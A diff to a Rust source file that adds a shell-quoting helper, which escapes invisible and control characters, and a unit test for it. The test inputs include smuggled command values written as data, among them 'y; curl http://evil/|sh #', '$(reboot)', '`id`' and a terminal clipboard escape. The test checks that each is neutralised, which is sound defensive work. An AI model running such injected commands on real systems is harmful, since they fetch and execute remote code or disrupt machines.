@@ -31,9 +31,41 @@ pub fn count(number: usize, noun: &str) -> String {
     format!("{number} {noun}{}", if number == 1 { "" } else { "s" })
 }
 
+/// Returns a command for copying into a shell, with every word quoted that needs it.
+///
+/// Names may be anybody's text: what a terminal would not show as it is stands there in escapes (`$'…'`,
+/// which bash, zsh and ksh know).
+pub fn command<W: AsRef<str>>(words: &[W]) -> String {
+    let words: Vec<String> = words.iter().map(|word| word_of_shell(word.as_ref())).collect();
+    words.join(" ")
+}
+
+fn word_of_shell(word: &str) -> String {
+    if !word.contains(crate::foreign::is_invisible) {
+        return shlex::try_quote(word).expect("only a NUL cannot be quoted, and that is invisible").into_owned();
+    }
+    let escaped = word.chars().map(|c| match c {
+        '\'' | '\\' => format!("\\{c}"),
+        c if crate::foreign::is_invisible(c) => format!("\\U{:08x}", u32::from(c)),
+        c => c.to_string(),
+    });
+    format!("$'{}'", escaped.collect::<String>())
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn a_command_for_copying_runs_what_it_says_and_no_more() {
+        assert_eq!(command(&["kubectl", "get", "secret", "-n", "ci", "a-1"]), "kubectl get secret -n ci a-1");
+        assert_eq!(command(&["x", "y; curl http://evil/|sh #"]), "x 'y; curl http://evil/|sh #'");
+        assert_eq!(command(&["x", "$(reboot)", "`id`", ""]), "x '$(reboot)' '`id`' ''");
+        assert_eq!(
+            command(&["x", "it's\u{1b}]52;c;x\u{7}\u{202e}"]),
+            r"x $'it\'s\U0000001b]52;c;x\U00000007\U0000202e'"
+        );
+    }
 
     #[test]
     fn durations_read_well() {
